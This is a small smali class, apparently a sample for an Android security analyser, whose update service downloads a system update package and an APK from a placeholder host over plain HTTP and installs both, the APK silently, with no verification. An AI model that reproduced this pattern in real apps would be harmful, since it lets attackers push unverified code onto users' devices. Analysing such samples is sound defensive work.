.class public Lnl/klikspaan/sample/updater/UpdateService;
.super Landroid/app/IntentService;

.method public constructor <init>()V
    .registers 2
    const-string v0, "update"
    invoke-direct {p0, v0}, Landroid/app/IntentService;-><init>(Ljava/lang/String;)V
    return-void
.end method

.method protected onHandleIntent(Landroid/content/Intent;)V
    .registers 5
    :try_start
    const-string v0, "http://updates.sample-telltale.example/update.zip"
    const-string v1, "/cache/update.zip"
    invoke-static {v0, v1}, Lnl/klikspaan/sample/updater/Download;->fetch(Ljava/lang/String;Ljava/lang/String;)Ljava/io/File;
    move-result-object v0
    invoke-static {p0, v0}, Landroid/os/RecoverySystem;->installPackage(Landroid/content/Context;Ljava/io/File;)V
    const-string v0, "http://updates.sample-telltale.example/app.apk"
    const-string v1, "/cache/app.apk"
    invoke-static {v0, v1}, Lnl/klikspaan/sample/updater/Download;->fetch(Ljava/lang/String;Ljava/lang/String;)Ljava/io/File;
    move-result-object v0
    invoke-static {p0, v0}, Lnl/klikspaan/sample/updater/SilentInstall;->install(Landroid/content/Context;Ljava/io/File;)V
    :try_end
    .catch Ljava/io/IOException; {:try_start .. :try_end} :failed
    :done
    return-void
    :failed
    move-exception v0
    goto :done
.end method
